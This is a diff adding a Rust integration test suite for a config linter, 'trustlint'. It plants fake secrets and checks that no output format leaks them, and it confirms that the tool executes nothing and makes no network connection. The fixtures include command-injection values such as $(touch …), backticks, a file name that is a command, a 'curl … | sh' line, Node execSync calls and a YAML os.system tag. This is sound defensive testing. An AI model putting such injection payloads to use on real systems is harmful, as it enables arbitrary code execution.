@@ -1,0 +1,925 @@
+//! The canary test for every command and output format (issue 7): secrets planted in
+//! definitions, configs and unparsable files never appear, whole or in a distinctive piece
+//! of 8 characters or more, in standard output, standard error or any file trustlint
+//! writes (reports, baselines, chosen registrations). And trustlint runs nothing it reads
+//! and connects nowhere, as far as a test can tell.
+//!
+//! Tests marked `#[ignore = "trustlint bug: ..."]` state what trustlint should do and does
+//! not yet; `cargo test --test canary_everywhere -- --ignored` runs them.
+
+use std::io::Read;
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use assert_cmd::prelude::*;
+
+const FORMATS: &[&str] = &[
+    "human",
+    "concise",
+    "json",
+    "json-lines",
+    "sarif",
+    "github",
+    "gitlab",
+    "junit",
+];
+
+/// A canary: a secret with a name for messages. Every 8-character piece of it is
+/// distinctive (random-looking, never a word trustlint prints).
+struct Canary {
+    name: &'static str,
+    secret: String,
+}
+
+/// The canaries of the main project, one per place a secret hides.
+fn canaries() -> Vec<Canary> {
+    let c = |name, secret: &str| Canary {
+        name,
+        secret: secret.to_string(),
+    };
+    // The payload's first and last characters encode `{"jti":"` and `"}`, which any JWT
+    // may hold; the rest encodes random characters.
+    let payload = jwt_part_payload();
+    vec![
+        c(
+            "ApplicationSecretHash holding the plain secret",
+            "Zq7vK2mXw9Rt4LpB8nHs",
+        ),
+        c(
+            "a misspelled key (ApplicationSecretHsh)",
+            "Yt3rD8qWz5Mv1KcN6jGa",
+        ),
+        c("a Users entry's password", "Pw4hJ9sLq2Xn7Bd3Vf8Ke"),
+        c(".env, VITE_ (front end)", "Fe6gT1zRk8Wq3Ym5Hc2Nd"),
+        c(".env, back end", "Be9kL4xPv7Qs2Dm6Rt1Jw"),
+        c("appsettings.json", "As5nW8cYq3Kz7Ht2Lm9Vx"),
+        c("oidc.ts", "Ot2fB7kQx5Zr9Gw3Nj6Pc"),
+        c("a YAML auth config", "Ya8mH3tVz6Lq1Xk9Dr4Wb"),
+        c("a TOML oidc config", "Tl4qZ9rWk2Hm7Ns5Bx8Gv"),
+        c(
+            "wwwroot/appsettings.json (front end)",
+            "Ww3xK8pLz5Rq9Vm2Tc7Hn",
+        ),
+        c("a connection string", "Cs9vR2kMx6Tz4Wq8Lp3Hd"),
+        c(
+            "an ERP.net reference token",
+            "enrt_9f3ac1e07b5d24f8e6a0c3b19d7254ef0a8b6c2d4e1f3907a5c8e2b4d6f0193c",
+        ),
+        c("a JWT's payload", &payload[12..payload.len() - 4]),
+        c("a JWT's signature", JWT_SIGNATURE),
+    ]
+}
+
+fn b64url(bytes: &[u8]) -> String {
+    use base64::Engine;
+    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
+}
+
+const JWT_SIGNATURE: &str = "Sg8dQ3wLz7Kx2Vn9Rb5Tm1Hp6Yc4Jf0Xa";
+
+fn jwt_part_payload() -> String {
+    b64url(br#"{"jti":"Jq5Xc8Rm2Wv7Tz4Kp9Lb3Nd6Hf1Qs8Gw2Yx5Vc7Mr0Zk"}"#)
+}
+
+/// An access token (by its `typ`): the header is the common `{"alg":"RS256",...}` (its
+/// pieces appear in any JWT, so only the payload and the signature are canaries).
+fn jwt() -> String {
+    format!(
+        "{}.{}.{JWT_SIGNATURE}",
+        b64url(br#"{"alg":"RS256","typ":"at+jwt"}"#),
+        jwt_part_payload()
+    )
+}
+
+fn secret(name_start: &str) -> String {
+    canaries()
+        .into_iter()
+        .find(|c| c.name.starts_with(name_start))
+        .unwrap()
+        .secret
+}
+
+fn write(dir: &Path, path: &str, text: &str) {
+    let p = dir.join(path);
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(p, text).unwrap();
+}
+
+/// The project: definitions and configs of two apps with every canary planted.
+fn plant(d: &Path) {
+    write(
+        d,
+        "spa.trusted-app.yaml",
+        "ApplicationUri: com.example/spa\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://spa.example.com/cb\nScope: read\n",
+    );
+    write(
+        d,
+        "web.trusted-app.yaml",
+        &format!(
+            "TrustedApplications:\n  - ApplicationUri: com.example/web\n    ClientType: Confidential\n    AppType: WebApp\n    ApplicationSecretHash: {}\n    ApplicationSecretHsh: {}\n    ImpersonateAsInternalUserAllowed: true\n    ImpersonateLoginUrl: https://web.example.com/signin-oidc\n    SystemUserAllowed: true\n    SystemUser: svc.web\n    Scope: read\nUsers:\n  - Login: svc.web\n    UserType: InternalUser\n    Password: {}\n",
+            secret("ApplicationSecretHash"),
+            secret("a misspelled"),
+            secret("a Users"),
+        ),
+    );
+    write(
+        d,
+        "spa/package.json",
+        r#"{"dependencies": {"react": "19.0.0", "vite": "7.0.0"}}"#,
+    );
+    write(
+        d,
+        "spa/.env.production",
+        &format!(
+            "VITE_OIDC_CLIENT_ID=com.example/spa\nVITE_OIDC_CLIENT_SECRET={}\nVITE_ACCESS_TOKEN={}\nERP_TOKEN={}\n",
+            secret(".env, VITE_"),
+            jwt(),
+            secret("an ERP.net"),
+        ),
+    );
+    write(
+        d,
+        "api/.env",
+        &format!(
+            "OIDC_CLIENT_ID=com.example/web\nOIDC_CLIENT_SECRET={}\nDB=Server=db;User Id=app;Password={};\n",
+            secret(".env, back end"),
+            secret("a connection"),
+        ),
+    );
+    write(
+        d,
+        "api/appsettings.json",
+        &format!(
+            "{{ // comments are allowed\n  \"OpenIdConnect\": {{ \"ClientId\": \"com.example/web\", \"ClientSecret\": \"{}\", \"Callback\": \"https://x.example.com/cb?access_token={}\" }}\n}}\n",
+            secret("appsettings.json"),
+            jwt(),
+        ),
+    );
+    write(
+        d,
+        "spa/src/oidc.ts",
+        &format!(
+            "export const settings = {{ client_id: 'com.example/spa', client_secret: '{}', disablePKCE: true }};\n",
+            secret("oidc.ts"),
+        ),
+    );
+    write(
+        d,
+        "tools/auth.yaml",
+        &format!(
+            "oidc:\n  client_id: com.example/web\n  client_secret: {}\n",
+            secret("a YAML auth"),
+        ),
+    );
+    write(
+        d,
+        "tools/oidc.toml",
+        &format!(
+            "client_id = \"com.example/spa\"\nclient_secret = \"{}\"\n",
+            secret("a TOML oidc"),
+        ),
+    );
+    write(
+        d,
+        "blazor/wwwroot/appsettings.json",
+        &format!(
+            "{{ \"Oidc\": {{ \"ClientId\": \"com.example/web\", \"ClientSecret\": \"{}\" }} }}\n",
+            secret("wwwroot"),
+        ),
+    );
+}
+
+/// What a run left: its exit status, its output and the files it wrote.
+struct Output {
+    what: String,
+    code: Option<i32>,
+    text: String,
+}
+
+fn run_command(mut command: Command, what: String) -> Output {
+    command
+        .env("NO_COLOR", "1")
+        .env("COLUMNS", "100")
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let mut child = command.spawn().expect("trustlint starts");
+    let reader = |mut pipe: Box<dyn Read + Send>| {
+        std::thread::spawn(move || {
+            let mut bytes = Vec::new();
+            let _ = pipe.read_to_end(&mut bytes);
+            String::from_utf8_lossy(&bytes).into_owned()
+        })
+    };
+    let out = reader(Box::new(child.stdout.take().unwrap()));
+    let err = reader(Box::new(child.stderr.take().unwrap()));
+    let start = Instant::now();
+    let status = loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            break status;
+        }
+        if start.elapsed() > Duration::from_secs(60) {
+            let _ = child.kill();
+            let _ = child.wait();
+            panic!("{what}: did not finish within 60 s");
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    Output {
+        what,
+        code: status.code(),
+        text: format!(
+            "--- stdout\n{}\n--- stderr\n{}",
+            out.join().unwrap(),
+            err.join().unwrap()
+        ),
+    }
+}
+
+fn trustlint(dir: &Path, args: &[&str]) -> Output {
+    let mut command = Command::cargo_bin("trustlint").unwrap();
+    command.current_dir(dir).args(args);
+    run_command(command, format!("trustlint {}", args.join(" ")))
+}
+
+/// Adds a written file to what a run left.
+fn with_file(mut output: Output, path: &Path) -> Output {
+    let text = std::fs::read_to_string(path)
+        .unwrap_or_else(|e| panic!("{}: {} was not written: {e}", output.what, path.display()));
+    output
+        .text
+        .push_str(&format!("\n--- {}\n{text}", path.display()));
+    output
+}
+
+/// Every piece of `secret` of `len` characters.
+fn pieces(secret: &str, len: usize) -> Vec<&str> {
+    let chars: Vec<(usize, char)> = secret.char_indices().collect();
+    (0..=chars.len().saturating_sub(len))
+        .map(|i| {
+            let start = chars[i].0;
+            let end = chars.get(i + len).map_or(secret.len(), |c| c.0);
+            &secret[start..end]
+        })
+        .collect()
+}
+
+/// Fails when any canary, or any 8-character piece of one, is in the output.
+fn assert_no_canary(output: &Output, canaries: &[Canary]) {
+    for canary in canaries {
+        for piece in pieces(&canary.secret, 8) {
+            if let Some(at) = output.text.find(piece) {
+                let from = output.text[..at].rfind('\n').map_or(0, |i| i + 1);
+                let to = output.text[at..]
+                    .find('\n')
+                    .map_or(output.text.len(), |i| at + i);
+                panic!(
+                    "{}: the secret in {} leaks (`{piece}`), in this line:\n{}",
+                    output.what,
+                    canary.name,
+                    &output.text[from..to]
+                );
+            }
+        }
+    }
+}
+
+/// Fails unless the run found what the canaries are about (so that a canary that went
+/// unread does not pass for one that was kept secret).
+fn assert_checked(output: &Output) {
+    for rule in [
+        "TA303", "TA104", "CF101", "CF102", "CF103", "CF104", "CF209",
+    ] {
+        assert!(
+            output.text.contains(rule),
+            "{}: {rule} missing, so a canary went unchecked:\n{}",
+            output.what,
+            output.text
+        );
+    }
+}
+
+fn project() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    plant(dir.path());
+    dir
+}
+
+#[test]
+fn the_planted_canaries_are_found() {
+    let dir = project();
+    let out = trustlint(dir.path(), &["check", "--format", "json", "."]);
+    assert_eq!(out.code, Some(1), "{}", out.text);
+    assert_checked(&out);
+}
+
+#[test]
+fn check_in_every_format_shows_no_canary() {
+    let dir = project();
+    let all = canaries();
+    for format in FORMATS {
+        let out = trustlint(dir.path(), &["check", "--format", format, "."]);
+        assert_eq!(out.code, Some(1), "{}: {}", out.what, out.text);
+        assert_checked(&out);
+        assert_no_canary(&out, &all);
+        let out = trustlint(
+            dir.path(),
+            &[
+                "check",
+                "--format",
+                format,
+                "--statistics",
+                "--fail-on",
+                "info",
+                ".",
+            ],
+        );
+        assert_no_canary(&out, &all);
+    }
+}
+
+#[test]
+fn reports_written_with_o_show_no_canary() {
+    let dir = project();
+    let all = canaries();
+    let reports = tempfile::tempdir().unwrap();
+    for format in FORMATS {
+        let path = reports.path().join(format!("report.{format}"));
+        let out = trustlint(
+            dir.path(),
+            &[
+                "check",
+                "--format",
+                format,
+                "--statistics",
+                "-o",
+                path.to_str().unwrap(),
+                ".",
+            ],
+        );
+        assert_eq!(out.code, Some(1), "{}: {}", out.what, out.text);
+        let out = with_file(out, &path);
+        assert_checked(&out);
+        assert_no_canary(&out, &all);
+    }
+}
+
+#[test]
+fn baselines_hold_no_canary_and_suppress_by_fingerprint() {
+    let dir = project();
+    let all = canaries();
+    let baseline = dir.path().join(".trustlint-baseline.json");
+    let out = trustlint(
+        dir.path(),
+        &["check", "--write-baseline", baseline.to_str().unwrap(), "."],
+    );
+    assert_eq!(out.code, Some(0), "{}", out.text);
+    let out = with_file(out, &baseline);
+    assert!(out.text.contains("CF101"), "{}", out.text);
+    assert_no_canary(&out, &all);
+    // Read back: every finding is recorded, so nothing new is reported.
+    for format in FORMATS {
+        let out = trustlint(
+            dir.path(),
+            &[
+                "check",
+                "--format",
+                format,
+                "--baseline",
+                baseline.to_str().unwrap(),
+                ".",
+            ],
+        );
+        assert_eq!(out.code, Some(0), "{}: {}", out.what, out.text);
+        assert_no_canary(&out, &all);
+    }
+}
+
+fn git(dir: &Path, args: &[&str]) {
+    let status = Command::new("git")
+        .args([
+            "-c",
+            "user.name=canary",
+            "-c",
+            "user.email=canary@example.com",
+            "-c",
+            "commit.gpgsign=false",
+        ])
+        .args(args)
+        .current_dir(dir)
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .expect("git runs");
+    assert!(status.success(), "git {args:?}");
+}
+
+#[test]
+fn staged_checks_show_no_canary() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    git(d, &["init", "-q"]);
+    plant(d);
+    git(d, &["add", "-A"]);
+    let all = canaries();
+    for format in FORMATS {
+        let out = trustlint(d, &["check", "--staged", "--format", format]);
+        assert_eq!(out.code, Some(1), "{}: {}", out.what, out.text);
+        assert_checked(&out);
+        assert_no_canary(&out, &all);
+    }
+    // Staged content differs from the working tree: the staged canaries count.
+    std::fs::write(d.join("api/.env"), "OIDC_CLIENT_ID=com.example/web\n").unwrap();
+    let out = trustlint(d, &["check", "--staged", "--format", "concise"]);
+    assert!(out.text.contains("api/.env"), "{}", out.text);
+    assert_no_canary(&out, &all);
+}
+
+#[test]
+fn explain_rules_choose_and_schema_show_no_canary() {
+    let dir = project();
+    let d = dir.path();
+    let all = canaries();
+    let mut outputs = vec![
+        trustlint(d, &["explain", "CF101"]),
+        trustlint(d, &["explain", "secret-hash-malformed"]),
+        trustlint(d, &["rules"]),
+        trustlint(d, &["rules", "--format", "json"]),
+        trustlint(d, &["rules", "--format", "markdown"]),
+        trustlint(d, &["schema"]),
+    ];
+    for format in ["json", "yaml", "text"] {
+        let path = d.join(format!("chosen-{format}.trusted-app.yaml"));
+        let uri = format!("com.example/chosen-{format}");
+        let out = trustlint(
+            d,
+            &[
+                "choose",
+                "--interactive-ui",
+                "yes",
+                "--unattended",
+                "no",
+                "--platform",
+                "browser",
+                "--external-users",
+                "no",
+                "--sso-only",
+                "no",
+                "--app-uri",
+                &uri,
+                "--instance",
+                "acme",
+                "--format",
+                format,
+                "--write",
+                path.to_str().unwrap(),
+            ],
+        );
+        assert_eq!(out.code, Some(0), "{}: {}", out.what, out.text);
+        outputs.push(with_file(out, &path));
+    }
+    for out in &outputs {
+        assert_no_canary(out, &all);
+    }
+    // The chosen registrations are then checked beside the canaries: clean themselves.
+    let out = trustlint(d, &["check", "--format", "concise", "."]);
+    assert_eq!(out.code, Some(1), "{}", out.text);
+    assert!(!out.text.contains("chosen-"), "{}", out.text);
+    assert_no_canary(&out, &all);
+}
+
+// ---------------------------------------------------------------------------------------
+// Secrets in files that do not parse, and under keys trustlint does not know
+
+/// Canaries in files that do not parse: a definition in each format, configs, and the
+/// project's trustlint.toml. Each file breaks on the line after its secret or on the same
+/// line.
+fn plant_unparsable(d: &Path) -> Vec<Canary> {
+    let c = |name, secret: &str| Canary {
+        name,
+        secret: secret.to_string(),
+    };
+    let canaries = vec![
+        c("an unparsable YAML definition", "Uy5kR8wQz2Lm7Xv3Hb9Tn"),
+        c("an unparsable JSON definition", "Uj3nW6pLx9Kq2Zr7Vd5Hm"),
+        c("an unparsable TOML definition", "Ut8hB2vMz5Rk9Wq4Lc7Xp"),
+        c("an unparsable appsettings.json", "Ua6tQ9xKr3Wz7Lm2Hv5Bd"),
+        c("an unparsable oidc.yaml", "Uo2wL7mXq4Rt9Kb6Zv3Hn"),
+        c("an unparsable trustlint.toml", "Us9pV4kZr7Hq2Wx5Lm8Tb"),
+    ];
+    let s = |i: usize| canaries[i].secret.clone();
+    write(
+        d,
+        "broken.trusted-app.yaml",
+        &format!(
+            "ApplicationUri: com.example/broken\nApplicationSecretHash: {}\n  Scope: [read\n",
+            s(0)
+        ),
+    );
+    write(
+        d,
+        "broken.trusted-app.json",
+        &format!(
+            "{{\"ApplicationUri\": \"com.example/broken-json\", \"ApplicationSecretHash\": \"{}\" ]\n",
+            s(1)
+        ),
+    );
+    write(
+        d,
+        "broken.trusted-app.toml",
+        &format!(
+            "ApplicationUri = \"com.example/broken-toml\"\nApplicationSecretHash = \"{}\" oops\n",
+            s(2)
+        ),
+    );
+    write(
+        d,
+        "api/appsettings.json",
+        &format!(
+            "{{\n  \"OpenIdConnect\": {{ \"ClientId\": \"com.example/web\", \"ClientSecret\": \"{}\" ]\n}}\n",
+            s(3)
+        ),
+    );
+    write(
+        d,
+        "tools/oidc.yaml",
+        &format!(
+            "client_id: com.example/web\nclient_secret: {}\n - [\n",
+            s(4)
+        ),
+    );
+    write(
+        d,
+        "trustlint.toml",
+        &format!("fail-on = \"error\"\nclient_secret = \"{}\" oops\n", s(5)),
+    );
+    write(
+        d,
+        "good.trusted-app.yaml",
+        "ApplicationUri: com.example/good\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://spa.example.com/cb\nScope: read\n",
+    );
+    canaries
+}
+
+#[test]
+fn unparsable_files_with_secrets_show_no_canary_outside_snippets() {
+    let dir = tempfile::tempdir().unwrap();
+    let all = plant_unparsable(dir.path());
+    let reports = tempfile::tempdir().unwrap();
+    // Every format but human, which shows source snippets (see the ignored test below).
+    for format in FORMATS.iter().filter(|f| **f != "human") {
+        let path = reports.path().join(format!("report.{format}"));
+        let out = trustlint(
+            dir.path(),
+            &[
+                "check",
+                "--format",
+                format,
+                "-o",
+                path.to_str().unwrap(),
+                ".",
+            ],
+        );
+        assert_eq!(out.code, Some(2), "{}: {}", out.what, out.text);
+        let out = with_file(out, &path);
+        for file in [
+            "broken.trusted-app.yaml",
+            "broken.trusted-app.json",
+            "broken.trusted-app.toml",
+            "api/appsettings.json",
+            "tools/oidc.yaml",
+        ] {
+            assert!(out.text.contains(file), "{}: {file} unreported", out.what);
+        }
+        assert!(out.text.contains("TL004"), "{}: {}", out.what, out.text);
+        assert_no_canary(&out, &all);
+    }
+    let baseline = reports.path().join("baseline.json");
+    let out = trustlint(
+        dir.path(),
+        &["check", "--write-baseline", baseline.to_str().unwrap(), "."],
+    );
+    assert_no_canary(&with_file(out, &baseline), &all);
+}
+
+#[test]
+fn unparsable_files_with_secrets_show_no_canary_in_human_output() {
+    let dir = tempfile::tempdir().unwrap();
+    let all = plant_unparsable(dir.path());
+    let out = trustlint(dir.path(), &["check", "--format", "human", "."]);
+    assert_eq!(out.code, Some(2), "{}", out.text);
+    assert_no_canary(&out, &all);
+}
+
+#[test]
+fn misspelled_credential_keys_are_masked() {
+    let dir = tempfile::tempdir().unwrap();
+    let c = |name, secret: &str| Canary {
+        name,
+        secret: secret.to_string(),
+    };
+    let all = vec![
+        c("ApplicationSecertHash", "Ms4kQ8wZr2Lx7Vn5Hb3Tp"),
+        c("ClientScret", "Ms7pW2nKz9Rq4Xv6Lc8Hd"),
+        c("clientsecrt in trustlint.toml", "Ms2vL9xQk5Wz8Rt3Hn7Bc"),
+    ];
+    write(
+        dir.path(),
+        "typo.trusted-app.yaml",
+        &format!(
+            "ApplicationUri: com.example/typo\nClientType: Confidential\nApplicationSecertHash: {}\nClientScret: {}\n",
+            all[0].secret, all[1].secret
+        ),
+    );
+    write(
+        dir.path(),
+        "trustlint.toml",
+        &format!("clientsecrt = \"{}\"\n", all[2].secret),
+    );
+    for format in FORMATS {
+        let out = trustlint(dir.path(), &["check", "--format", format, "."]);
+        assert!(out.text.contains("TA104"), "{}: {}", out.what, out.text);
+        assert_no_canary(&out, &all);
+    }
+}
+
+#[test]
+fn credentials_in_urls_are_masked() {
+    let dir = tempfile::tempdir().unwrap();
+    let c = |name, secret: &str| Canary {
+        name,
+        secret: secret.to_string(),
+    };
+    let all = vec![
+        c("a password in a redirect URI", "Up9Kq3Zx7LmWt"),
+        c("an access token in a redirect URI's query", "Uq8Wn2Rv5XcHj"),
+        c("a client secret in a redirect URI's query", "Us4Jh7Lp2VbNk"),
+        c("a token in a logout URI's fragment", "Uf3Mv8Qz1KdRy"),
+        c("a password in a config's authority", "Ua5Rt8Yq2WzPm"),
+        c("an access token in a config's ERP.net URL", "Ut6Hn1Ls4KxQw"),
+    ];
+    let s = |i: usize| all[i].secret.as_str();
+    write(
+        dir.path(),
+        "p.trusted-app.yaml",
+        &format!(
+            "ApplicationUri: com.example/p\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://admin:{}@portal.example.com/cb?access_token={}&client_secret={}\nImpersonateLogoutUrl: \"https://portal.example.com/out#id_token_hint={}\"\nScope: read\n",
+            s(0),
+            s(1),
+            s(2),
+            s(3)
+        ),
+    );
+    write(
+        dir.path(),
+        ".env",
+        &format!(
+            "OIDC_CLIENT_ID=com.example/p\nOIDC_AUTHORITY=http://svc:{}@acme.my.erp.net/id\nAPI=https://acme.my.erp.net/api/domain/odata?access_token={}\n",
+            s(4),
+            s(5)
+        ),
+    );
+    for format in FORMATS {
+        let out = trustlint(dir.path(), &["check", "--format", format, "."]);
+        for rule in ["TA203", "CF207", "CF208"] {
+            assert!(out.text.contains(rule), "{}: {rule} missing", out.what);
+        }
+        assert_no_canary(&out, &all);
+    }
+}
+
+#[test]
+fn choose_answers_errors_show_no_canary() {
+    let dir = tempfile::tempdir().unwrap();
+    let canary = Canary {
+        name: "an answers file",
+        secret: "An6rT3kWz8Lq2Xv5Hm9Pc".to_string(),
+    };
+    write(
+        dir.path(),
+        "answers.yaml",
+        &format!("interactive-ui: true\nclient_secret: {}\n", canary.secret),
+    );
+    write(
+        dir.path(),
+        "broken-answers.yaml",
+        &format!(
+            "interactive-ui: true\ntoken: {}\nplatform: [\n",
+            canary.secret
+        ),
+    );
+    for file in ["answers.yaml", "broken-answers.yaml"] {
+        let out = trustlint(
+            dir.path(),
+            &["choose", "--answers", file, "--format", "json"],
+        );
+        assert_eq!(out.code, Some(2), "{}: {}", out.what, out.text);
+        assert_no_canary(&out, std::slice::from_ref(&canary));
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// Nothing is run, nothing is fetched
+
+/// Values written as shell, JS and template commands that would create `marker` if
+/// anything ran them.
+fn plant_commands(d: &Path, marker: &Path, url: &str) {
+    let m = marker.display();
+    let sh = format!("$(touch {m})");
+    let tick = format!("`touch {m}`");
+    let semi = format!("x; touch {m}");
+    write(
+        d,
+        "run.trusted-app.yaml",
+        &format!(
+            "ApplicationUri: com.example/run\nName: \"{sh}\"\nNotes: \"{tick} {semi}\"\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: [\"{url}/cb?x={sh}\", \"https://run.example.com/{tick}\"]\nScope: read\nConfigs:\n  - \"{sh}\"\n  - web/.env\n  - Path: \"{tick}\"\n    Side: Frontend\n"
+        ),
+    );
+    write(
+        d,
+        "run.trusted-app.json",
+        &format!(
+            "{{\"$schema\": \"{url}/schema.json\", \"ApplicationUri\": \"com.example/run-json\", \"Name\": \"{}\", \"ImpersonateLoginUrl\": \"{url}/signin\"}}",
+            tick.replace('`', "\\u0060")
+        ),
+    );
+    write(
+        d,
+        "run.trusted-app.toml",
+        &format!(
+            "ApplicationUri = \"com.example/run-toml\"\nName = \"{sh}\"\nNotes = '{tick}'\nImpersonateLoginUrl = \"{url}/toml\"\n"
+        ),
+    );
+    write(
+        d,
+        "web/.env",
+        &format!(
+            "OIDC_CLIENT_ID=com.example/run\nOIDC_AUTHORITY={url}/id\nOIDC_CLIENT_SECRET={sh}\nOIDC_SCOPE={tick}\nOIDC_REDIRECT_URI=\"{semi}\"\nPOST_LOGOUT=${{IFS}}{sh}\nexport EVAL=$(curl {url}/x | sh)\n"
+        ),
+    );
+    write(
+        d,
+        "api/appsettings.json",
+        &format!(
+            "{{\"$schema\": \"{url}/appsettings-schema.json\", \"OpenIdConnect\": {{\"ClientId\": \"com.example/run\", \"Authority\": \"{url}/id\", \"MetadataAddress\": \"{url}/id/.well-known/openid-configuration\", \"ClientSecret\": \"{sh}\", \"Scope\": \"{tick}\"}}}}"
+        ),
+    );
+    write(
+        d,
+        "spa/src/oidc.ts",
+        &format!(
+            "import {{ execSync }} from 'child_process';\nexecSync('touch {m}');\nexport const settings = {{ authority: '{url}/id', client_id: `${{require('child_process').execSync('touch {m}')}}`, client_secret: '{sh}' }};\n"
+        ),
+    );
+    write(
+        d,
+        "tools/auth.yaml",
+        &format!(
+            "oidc:\n  authority: {url}/id\n  client_id: !!python/object/apply:os.system [\"touch {m}\"]\n  client_secret: \"{sh}\"\n"
+        ),
+    );
+    // A file name that is a command, for --staged (names go to git on standard input).
+    write(
+        d,
+        &format!("$(touch {}).trusted-app.yaml", marker.display()).replace('/', "_"),
+        "ApplicationUri: com.example/named\n",
+    );
+    write(
+        d,
+        "trustlint.toml",
+        &format!("# {sh}\nexclude = [\"{}\"]\n", tick.replace('"', "")),
+    );
+}
+
+#[test]
+fn nothing_read_is_run_and_nothing_is_fetched() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let marker = d.join("pwned-marker");
+    // Anything trustlint fetched would connect here, directly or through a proxy.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    git(d, &["init", "-q"]);
+    plant_commands(d, &marker, &url);
+    git(d, &["add", "-A"]);
+    let mut runs: Vec<Vec<&str>> = FORMATS
+        .iter()
+        .map(|f| vec!["check", "--format", f, "."])
+        .collect();
+    runs.push(vec!["check", "--staged", "--format", "json"]);
+    runs.push(vec!["check", "--staged", "--format", "human"]);
+    runs.push(vec![
+        "check",
+        "--format",
+        "human",
+        "web/.env",
+        "run.trusted-app.yaml",
+    ]);
+    for args in &runs {
+        let mut command = Command::cargo_bin("trustlint").unwrap();
+        command.current_dir(d).args(args);
+        for var in [
+            "http_proxy",
+            "https_proxy",
+            "HTTP_PROXY",
+            "HTTPS_PROXY",
+            "ALL_PROXY",
+            "all_proxy",
+        ] {
+            command.env(var, &url);
+        }
+        let out = run_command(command, format!("trustlint {}", args.join(" ")));
+        assert!(
+            matches!(out.code, Some(0..=2)),
+            "{}: {}",
+            out.what,
+            out.text
+        );
+        assert!(
+            !marker.exists(),
+            "{}: a command from a checked file was run",
+            out.what
+        );
+        match listener.accept() {
+            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+            Ok((_, peer)) => panic!("{}: trustlint connected to {url} (from {peer})", out.what),
+            Err(e) => panic!("accept: {e}"),
+        }
+    }
+    // The files were read: the authority and the redirect URIs were checked.
+    let out = trustlint(d, &["check", "--format", "concise", "."]);
+    assert!(out.text.contains("web/.env"), "{}", out.text);
+    assert!(out.text.contains("run.trusted-app.yaml"), "{}", out.text);
+}
+
+/// The system calls of a check, where `strace` is installed and may trace: no socket of
+/// any network family is opened, and no program is executed but trustlint itself.
+#[cfg(target_os = "linux")]
+#[test]
+fn a_check_opens_no_network_socket_and_executes_nothing() {
+    let Some(strace) = ["/usr/bin/strace", "/bin/strace"]
+        .into_iter()
+        .find(|p| Path::new(p).exists())
+    else {
+        eprintln!("SKIPPED: strace is not installed");
+        return;
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let marker = d.join("pwned-marker");
+    plant_commands(d, &marker, "http://127.0.0.1:9");
+    plant(d);
+    let trace = d.join("trace.txt");
+    let mut command = Command::new(strace);
+    command
+        .args([
+            "-f",
+            "-qq",
+            "-e",
+            "trace=execve,execveat,socket,connect,sendto",
+            "-o",
+        ])
+        .arg(&trace)
+        .arg(env!("CARGO_BIN_EXE_trustlint"))
+        .args(["check", "--format", "json", "."])
+        .current_dir(d);
+    let out = run_command(command, "strace trustlint check".to_string());
+    let Ok(syscalls) = std::fs::read_to_string(&trace) else {
+        eprintln!("SKIPPED: strace could not trace here:\n{}", out.text);
+        return;
+    };
+    if !syscalls.contains("execve(") {
+        eprintln!(
+            "SKIPPED: strace could not trace here:\n{syscalls}\n{}",
+            out.text
+        );
+        return;
+    }
+    assert_eq!(out.code, Some(1), "{}", out.text);
+    let exec: Vec<&str> = syscalls
+        .lines()
+        .filter(|l| l.contains("execve(") || l.contains("execveat("))
+        .collect();
+    assert_eq!(
+        exec.len(),
+        1,
+        "trustlint executed programs:\n{}",
+        exec.join("\n")
+    );
+    assert!(
+        exec[0].contains(env!("CARGO_BIN_EXE_trustlint")),
+        "{}",
+        exec[0]
+    );
+    for line in syscalls.lines() {
+        assert!(
+            !(line.contains("socket(AF_INET")
+                || line.contains("connect(")
+                || line.contains("sendto(")),
+            "trustlint used the network: {line}"
+        );
+    }
+    assert!(!marker.exists());
+}
